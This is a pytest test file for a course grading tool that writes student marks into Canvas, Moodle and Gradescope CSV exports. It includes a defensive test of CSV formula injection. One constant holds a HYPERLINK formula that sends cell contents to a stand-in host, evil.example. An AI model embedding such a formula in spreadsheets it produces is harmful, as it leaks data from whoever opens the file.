"""Marks for Canvas, Moodle and Gradescope: expected files written by hand, and what is refused."""

import csv
import io
from dataclasses import replace

import pytest
from support.grading_class import right_verdict, wrong_verdict

from course_lib.cli import main
from course_lib.grading.classroom.gradebook import Gradebook, read_records
from course_lib.grading.classroom.platforms import (
    Mark,
    Table,
    TableError,
    fill_canvas,
    fill_gradescope,
    fill_moodle,
    marks_of_sheet,
    read_ids,
)
from course_lib.grading.classroom.record import ExerciseMark, Record

SHEET = "03_attention"
MARKS = [Mark("alovelace", 40, 43), Mark("bhopper", 12.5, 43), Mark("cturing", None, 43)]

CANVAS = """\
Student,ID,SIS User ID,SIS Login ID,Section,Notes,Attention (4757),Heads (4766),Current Score,Final Score
,,,,,,,Manual Posting,,
    Points Possible,,,,,,43.0,20.0,(read only),(read only)
"Lovelace, Ada",101,u-1,alovelace,"Mo, 10:00",,,18.5,92.5,46.2
"Hopper, B.",102,u-2,bhopper,"Mo, 10:00",-3 late days,7,,0.0,0.0
"Turing, C.",103,u-3,cturing,"Tu, 12:00",,11,EX,0.0,0.0
"Noether, E.",104,u-4,enoether,"Tu, 12:00",,,,,
"Student, Test",900,,,"Mo, 10:00",,,,,
"""
CANVAS_FILLED = """\
Student,ID,SIS User ID,SIS Login ID,Section,Notes,Attention (4757),Heads (4766),Current Score,Final Score
,,,,,,,Manual Posting,,
    Points Possible,,,,,,43.0,20.0,(read only),(read only)
"Lovelace, Ada",101,u-1,alovelace,"Mo, 10:00",,40,18.5,92.5,46.2
"Hopper, B.",102,u-2,bhopper,"Mo, 10:00",'-3 late days,12.5,,0.0,0.0
"Turing, C.",103,u-3,cturing,"Tu, 12:00",,11,EX,0.0,0.0
"Noether, E.",104,u-4,enoether,"Tu, 12:00",,,,,
"Student, Test",900,,,"Mo, 10:00",,,,,
"""
MOODLE = """\
\ufeffIdentifier,"Full name","Email address",Status,Grade,"Maximum grade","Grade can be changed",\
"Last modified (submission)","Last modified (grade)","Feedback comments"
"Participant 881","Ada Lovelace",alovelace,"Submitted for grading - ",,43.00,Yes,"2 March 2026, 9:12 AM",-,
"Participant 882","B. Hopper",bhopper,"Submitted for grading - ",5.00,43.00,Yes,-,-,"Well, well"
"Participant 883","C. Turing",cturing,"No submission - ",,43.00,Yes,-,-,
"""
MOODLE_FILLED = """\
\ufeffIdentifier,Full name,Email address,Status,Grade,Maximum grade,Grade can be changed,\
Last modified (submission),Last modified (grade),Feedback comments
Participant 881,Ada Lovelace,alovelace,Submitted for grading - ,40,43.00,Yes,"2 March 2026, 9:12 AM",-,
Participant 882,B. Hopper,bhopper,Submitted for grading - ,12.5,43.00,Yes,-,-,"Well, well"
Participant 883,C. Turing,cturing,No submission - ,,43.00,Yes,-,-,
"""
MOODLE_EXPORT = """\
First name;Last name;ID number;Email address;Assignment: Attention (Real);Last downloaded from this course
Ada;Lovelace;7001;ada@uni.example;-;1772440000
B.;Hopper;7002;bh@uni.example;3,00;1772440000
"""
MOODLE_EXPORT_FILLED = """\
First name;Last name;ID number;Email address;Assignment: Attention (Real);Last downloaded from this course
Ada;Lovelace;7001;ada@uni.example;40;1772440000
B.;Hopper;7002;bh@uni.example;12,5;1772440000
"""
ROSTER = """\
First Name,Last Name,SID,Email,Sections
Ada,Lovelace,alovelace,ada@uni.example,A
B.,Hopper,bhopper,bh@uni.example,B
C.,Turing,cturing,ct@uni.example,B
"""
ROSTER_FILLED = """\
First Name,Last Name,SID,Email,Sections,Total Score,Max Points
Ada,Lovelace,alovelace,ada@uni.example,A,40,43
B.,Hopper,bhopper,bh@uni.example,B,12.5,43
C.,Turing,cturing,ct@uni.example,B,,43
"""
EVIL = '=HYPERLINK("http://evil.example?x="&A1,"open")'


def canvas(text=CANVAS, marks=MARKS, assignment="Attention", **options):
    return fill_canvas(Table.parse(text, "grades.csv"), marks, assignment, **options)


def moodle(text=MOODLE, marks=MARKS, **options):
    return fill_moodle(Table.parse(text, "sheet.csv"), marks, **options)


def gradescope(text=ROSTER, marks=MARKS, **options):
    return fill_gradescope(Table.parse(text, "roster.csv"), marks, **options)


def test_canvas_gets_its_own_export_back_with_one_column_filled():
    filled = canvas()
    assert filled.text == CANVAS_FILLED
    assert (filled.column, filled.num_filled) == ("Attention (4757)", 2)
    notes = "\n".join(filled.notes)
    assert "cturing: left as it was, for the grader failed" in notes
    assert "row 5, column 'Notes': an apostrophe" in notes and "2 lines have no marks here" in notes


def test_moodles_worksheet_keeps_every_column_and_its_byte_order_mark():
    filled = moodle()
    assert filled.text == MOODLE_FILLED and filled.num_filled == 2


def test_moodles_gradebook_is_filled_by_email_or_id_number():
    ids = {"alovelace": "ada@uni.example", "bhopper": "BH@uni.example", "cturing": ""}
    wanted = "Assignment: Attention (Real)"
    assert moodle(MOODLE_EXPORT, ids=ids, assignment=wanted).text == MOODLE_EXPORT_FILLED
    numbers = {"alovelace": "7001", "bhopper": "7002", "cturing": ""}
    assert moodle(MOODLE_EXPORT, ids=numbers, assignment=wanted).text == MOODLE_EXPORT_FILLED
    with pytest.raises(TableError, match="--assignment"):
        moodle(MOODLE_EXPORT, ids=ids)


def test_gradescopes_roster_gets_the_columns_of_its_downloads():
    filled = gradescope()
    assert filled.text == ROSTER_FILLED
    assert gradescope(filled.text).text == ROSTER_FILLED, "and such a download is filled in the same way"


def test_the_account_in_the_name_of_a_file_is_canvas_id():
    marks = [Mark("ada", 40, 43, "101"), Mark("bob", 1, 43, "102")]
    rows = list(csv.reader(io.StringIO(canvas(marks=marks).text)))
    assert [row[6] for row in rows[3:6]] == ["40", "1", "11"]


def test_the_number_in_the_name_of_a_folder_is_moodles_participant():
    marks = [Mark("Ada Lovelace", 40, 43, "881"), Mark("Hopper", 12.5, 43, "882"), Mark("T", None, 43, "883")]
    assert moodle(marks=marks).text == MOODLE_FILLED
    with pytest.raises(TableError, match="no line has these students"):
        moodle(marks=[Mark("Ada", 40, 43, "88")])


def test_a_number_is_looked_for_among_accounts_alone():
    table = CANVAS.replace("104,u-4,", "104,101,")  # the SIS id of one is the account of another
    assert canvas(table, marks=[Mark("ada", 40, 43, "101")]).text.count(",40,18.5") == 1
    with pytest.raises(TableError, match="no line has these students"):
        canvas(table, marks=[Mark("ada", 40, 43, "101")], by="SIS User ID")


def test_a_column_that_holds_an_id_twice_is_left_for_one_that_does_not():
    twice = CANVAS.replace("101,u-1,alovelace", "alovelace,u-1,alovelace").replace("104,u-4", "alovelace,u-4")
    assert canvas(twice).num_filled == 2


@pytest.mark.parametrize("end", ["\n", "\r\n"])
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_a_table_keeps_its_form(end, delimiter):
    rows = csv.reader(io.StringIO(CANVAS))
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter, lineterminator=end).writerows(rows)
    filled = canvas(text.getvalue()).text
    assert filled.count(end) == filled.count("\n") == 8
    again = list(csv.reader(io.StringIO(filled), delimiter=delimiter))
    assert again[4][6] == ("12,5" if delimiter == ";" else "12.5")


def test_other_points_than_the_platforms_are_refused_or_scaled():
    hundred = CANVAS.replace("43.0", "100.0")
    with pytest.raises(TableError, match="'Attention .4757.' counts 100 points, the marks are of 43"):
        canvas(hundred)
    rows = list(csv.reader(io.StringIO(canvas(hundred, is_scaled=True).text)))
    assert [row[6] for row in rows[3:5]] == ["93.02", "29.07"]  # 100 · 40/43 and 100 · 12.5/43
    with pytest.raises(TableError, match="counts 10 points"):
        moodle(MOODLE.replace("43.00", "10,00".replace(",", ".")))
    with pytest.raises(TableError, match="'Max Points' counts 20 points"):
        gradescope(ROSTER_FILLED.replace(",43", ",20"))


def test_excused_and_fixed_grades_stay():
    filled = canvas(CANVAS.replace('Mo, 10:00",,,18.5', 'Mo, 10:00",,EX,18.5'))
    assert "alovelace: left as it was, for Canvas says they are excused." in filled.notes
    assert '"Mo, 10:00",,EX,18.5' in filled.text
    filled = moodle(MOODLE.replace("5.00,43.00,Yes", "5.00,43.00,No"))
    assert "Hopper,bhopper,Submitted for grading - ,5.00" in filled.text and filled.num_filled == 1


def test_an_unknown_learner_is_named_with_those_near():
    marks = [*MARKS, Mark("enother", 3, 43), Mark("nobody at all", 0, 43)]
    with pytest.raises(TableError) as error:
        canvas(marks=marks)
    assert "enother (near it: enoether)" in str(error.value) and "nobody at all" in str(error.value)
    assert canvas(marks=marks, ids={"enother": "enoether", "nobody at all": ""}).num_filled == 3
    with pytest.raises(TableError, match="names 'alovelac', who has no marks. Did you mean alovelace"):
        canvas(ids={"alovelac": "101"})


def test_ids_that_stand_twice_are_refused():
    with pytest.raises(TableError, match="'alovelace' in the rows 4 and 5"):
        canvas(CANVAS.replace("102,u-2,bhopper", "102,u-2,alovelace"))
    with pytest.raises(TableError, match="row 4: expected one student. Received: alovelace and bhopper"):
        canvas(ids={"bhopper": "alovelace"})
    with pytest.raises(TableError, match="expected one column 'Notes'"):
        canvas(CANVAS.replace("Heads (4766)", "Notes"), assignment="Notes")


@pytest.mark.parametrize(
    ("assignment", "words"),
    [
        ("Atention", "It has: 'Attention"),
        ("Final Score", "is no assignment"),
        ("Section", "is no assignment"),
        ("SIS User ID", "is no assignment"),
    ],
)
def test_a_column_that_takes_no_marks_is_refused(assignment, words):
    with pytest.raises(TableError, match=words):
        canvas(assignment=assignment)


@pytest.mark.parametrize("name", ["Student", "ID", "Section"])
def test_a_missing_column_is_named(name):
    with pytest.raises(TableError, match=f"expected a column '{name}'"):
        canvas(CANVAS.replace(name, "Other", 1) if name != "ID" else CANVAS.replace(",ID,", ",Number,", 1))
    with pytest.raises(TableError, match="Last modified .grade."):
        moodle(MOODLE.replace("Last modified (grade)", "Changed"))
    with pytest.raises(TableError, match="Email, SID"):
        gradescope(ROSTER.replace("SID", "Number").replace("Email", "Mail"))


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "Received: 0 lines"),
        ("Student,ID\n", "Received: 1 lines"),
        ("Student,ID\nada,1,2\n", "line 2: expected 2 cells"),
        ('Student,ID\n"ada,1\n', "not a table"),
        (CANVAS.replace("    Points Possible", "Points"), "expected one line 'Points Possible'"),
    ],
)
def test_what_is_no_such_table_is_refused(text, words):
    with pytest.raises(TableError, match=words):
        canvas(text)


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t=", "＝", " =", "|"])
def test_a_formula_is_made_harmless_where_it_may_change_and_refused_where_not(begins):
    evil = begins + EVIL.removeprefix("=").replace('"', '""')
    filled = canvas(CANVAS.replace('"Lovelace, Ada"', f'"{evil}"')).text
    (cell,) = (row[0] for row in csv.reader(io.StringIO(filled)) if row[1] == "101")
    assert cell.startswith("'") and cell[1:] == evil.replace('""', '"')
    with pytest.raises(TableError, match="row 7, column 'SIS User ID': expected no formula"):
        canvas(CANVAS.replace("u-4", f'"{evil}"'))
    with pytest.raises(TableError, match="row 1, .*expected no formula"):
        canvas(CANVAS.replace("Heads (4766)", f'"{evil}"'))


def test_a_marked_name_that_looks_like_a_formula_finds_its_line():
    """`marks.csv` shows `'=ada`; the name in the records has lost its sign (`safe_name`)."""
    filled = gradescope("Email,SID\nx@y.example,=ada\n".replace("=ada", "ada"), [Mark("ada", 1, 2)])
    assert filled.num_filled == 1


@pytest.fixture
def run(tmp_path):
    """The folder of a run: two who passed some, one whose marking failed, one that is no longer handed in."""
    verdicts = [right_verdict("dot_score", 5), wrong_verdict("masked_softmax", "wrong_axis", 5)]
    marks = tuple(ExerciseMark(verdict, 0.3, "") for verdict in verdicts)
    record = Record("alovelace", "a.py", "0" * 64, (SHEET,), 7, "bubblewrap", "marked", exercises=marks)
    records = [
        record,
        replace(record, student="bhopper", path="bhopper_102_555_03.ipynb"),
        replace(record, student="cturing", status="fault", exercises=()),
    ]
    with Gradebook(tmp_path / "marks") as gradebook:
        gradebook.save_settings({"seed": 7, "sheets": [SHEET]})
        gradebook.write_reports(records, {})
        for each in [*records, replace(record, student="gone")]:
            gradebook.save(each)
    return tmp_path / "marks", record


def test_marks_are_those_of_the_reports_and_of_one_sheet(run):
    folder, record = run
    records = read_records(folder)
    marks = marks_of_sheet(records)
    assert [(mark.student, mark.points, mark.account) for mark in marks] == [
        ("alovelace", record.points, None),
        ("bhopper", record.points, "102"),
        ("cturing", None, None),
    ]
    assert {mark.possible for mark in marks} == {record.possible}
    with pytest.raises(ValueError, match="Expected marks of 04_queries_keys_values"):
        marks_of_sheet(records, "04")


def test_the_command_writes_beside_the_marks_and_names_what_it_left(run, tmp_path, capsys):
    folder, record = run
    table = tmp_path / "export.csv"
    table.write_text(CANVAS.replace("43.0", str(record.possible)))
    arguments = ["marks", "canvas", str(folder), str(table)]
    assert main([*arguments, "--assignment", "Attention", "--sheet", "03"]) == 0
    said = capsys.readouterr().out
    assert (
        "canvas.csv: 2 marks in the column 'Attention (4757)'" in said and "cturing: left as it was" in said
    )
    rows = list(csv.reader(io.StringIO((folder / "canvas.csv").read_text())))
    assert rows[3][6] == rows[4][6] == f"{record.points:g}"


@pytest.mark.parametrize(
    ("change", "options", "words"),
    [
        ("bhopper", ["--assignment", "Attention"], "no line has these students"),
        (None, [], "name the one to fill with --assignment"),
        (None, ["--assignment", "Attention", "--sheet", "3x"], "No sheet is called"),
        (None, ["--assignment", "Attention", "--by", "Emial"], "expected a column with ids: Emial"),
    ],
)
def test_nothing_is_written_when_something_is_wrong(run, tmp_path, capsys, change, options, words):
    folder, record = run
    table = tmp_path / "export.csv"
    text = CANVAS.replace("43.0", str(record.possible))
    text = text.replace(change, "nobody").replace("102,", "777,") if change else text
    table.write_text(text)
    (folder / "canvas.csv").write_text("of yesterday")
    assert main(["marks", "canvas", str(folder), str(table), *options]) == 2
    assert words in capsys.readouterr().err
    assert (folder / "canvas.csv").read_text() == "of yesterday" and table.read_text() == text


def test_the_platforms_own_file_is_never_overwritten(run, tmp_path, capsys):
    folder, _ = run
    (folder / "moodle.csv").write_text(MOODLE)
    assert main(["marks", "moodle", str(folder), str(folder / "moodle.csv")]) == 2
    assert "Expected another file" in capsys.readouterr().err
    assert (
        main(["marks", "moodle", str(tmp_path), str(folder / "moodle.csv"), "--out", str(tmp_path / "x")])
        == 2
    )
    assert "without run.json" in capsys.readouterr().err


def test_the_list_of_ids_is_read_strictly(tmp_path):
    path = tmp_path / "ids.csv"
    path.write_text("student,id,remark\n'=ada,101,x\nbob,,audits\n")
    assert read_ids(path) == {"=ada": "101", "bob": ""}
    path.write_text("student,id\nada,1\nada,2\n")
    with pytest.raises(TableError, match="row 3: expected each student once"):
        read_ids(path)
    path.write_text("name,id\nada,1\n")
    with pytest.raises(TableError, match="expected a column 'student'"):
        read_ids(path)
    path.write_bytes(b"student,id\n\xff,1\n")
    with pytest.raises(TableError, match="expected UTF-8"):
        read_ids(path)
